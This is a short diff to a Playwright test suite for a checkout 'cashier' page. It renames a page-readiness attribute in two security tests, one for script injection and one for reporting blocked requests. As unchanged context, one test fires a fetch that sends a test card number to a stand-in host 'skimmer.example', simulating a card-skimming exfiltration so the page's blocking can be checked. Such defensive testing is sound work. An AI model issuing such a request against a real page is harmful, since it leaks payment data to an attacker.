@@ -36,7 +36,7 @@ const attempts = (page: Page) =>
 
 test('issue-9 4.6 SVC-7 no text becomes script or markup, on the list and on a form', async ({ page, openCashier }) => {
   await openCashier()
-  await expect(page.locator('html[data-alive]')).toBeAttached()
+  await expect(page.locator('html[data-hydrated]')).toBeAttached()
   expect(await attempts(page)).toEqual([])
   await chooseMethod(page, 'Bank card')
   expect(await attempts(page)).toEqual([])
@@ -87,7 +87,7 @@ test('issue-9 4.6 SESS-7 the service hears what the page was kept from, without 
     await route.fulfill({ response, headers })
   })
   await page.goto(url)
-  await expect(page.locator('html[data-alive]')).toBeAttached()
+  await expect(page.locator('html[data-hydrated]')).toBeAttached()
   await page.evaluate(async () => {
     await fetch('https://skimmer.example/take?card=4242424242424242').catch(() => undefined)
   })
